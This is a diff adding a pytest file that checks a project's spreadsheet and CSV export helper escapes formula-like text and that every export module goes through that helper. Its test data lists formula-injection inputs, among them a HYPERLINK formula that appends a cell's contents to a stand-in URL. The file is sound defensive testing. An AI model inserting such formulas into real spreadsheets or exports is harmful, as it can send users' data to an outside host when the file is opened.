@@ -1,0 +1,59 @@
+"""core.xlsx: every text cell an export writes is text, whatever it starts with."""
+
+from __future__ import annotations
+
+import io
+import re
+from pathlib import Path
+
+import pytest
+from openpyxl import Workbook, load_workbook
+
+from parklink.core import xlsx
+
+SOURCE = Path(xlsx.__file__).resolve().parent.parent
+RISKY = ["=1+1", '=HYPERLINK("http://x"&A1,"click")', "+1", "-1", "@SUM(A1)", "\tx", "\rx"]
+
+
+def read_back(write_only: bool, values: list[object]) -> list[tuple[object, str, bool]]:
+    book = Workbook(write_only=write_only)
+    sheet = book.create_sheet("s")
+    xlsx.append(sheet, values)
+    buffer = io.BytesIO()
+    book.save(buffer)
+    cells = next(load_workbook(io.BytesIO(buffer.getvalue()))["s"].iter_rows())
+    return [(cell.value, cell.data_type, bool(cell.quotePrefix)) for cell in cells]
+
+
+class TestAppend:
+    @pytest.mark.parametrize("write_only", [True, False])
+    def test_formula_like_text_is_written_as_quoted_text(self, write_only: bool) -> None:
+        # XML reads a carriage return back as a line feed; the text is otherwise unchanged.
+        expected = [(value.replace("\r", "\n"), "s", True) for value in RISKY]
+        assert read_back(write_only, RISKY) == expected
+
+    def test_plain_text_numbers_and_blanks_keep_their_types(self) -> None:
+        assert read_back(True, ["甲", 12, None]) == [("甲", "s", False), (12, "n", False)]
+
+
+class TestCsvText:
+    @pytest.mark.parametrize("value", RISKY)
+    def test_formula_like_text_gets_an_apostrophe(self, value: str) -> None:
+        assert xlsx.csv_text(value) == "'" + value
+
+    def test_other_values_are_unchanged(self) -> None:
+        assert [xlsx.csv_text(v) for v in ("甲=1", 5, None)] == ["甲=1", 5, None]
+
+
+class TestEveryExportUsesTheHelper:
+    def test_no_module_writes_spreadsheet_cells_or_csv_rows_around_it(self) -> None:
+        """A new export must go through core.xlsx: no direct cells, CSV writers or workbooks."""
+        direct = re.compile(r"WriteOnlyCell\(|csv\.writer\(|csv\.DictWriter\(|\.cell\(row=")
+        offenders = []
+        for path in SOURCE.rglob("*.py"):
+            if path.name == "xlsx.py" and path.parent.name == "core":
+                continue
+            code = path.read_text(encoding="utf-8")
+            if direct.search(code) or ("Workbook(" in code and "core import xlsx" not in code):
+                offenders.append(str(path.relative_to(SOURCE)))
+        assert offenders == []
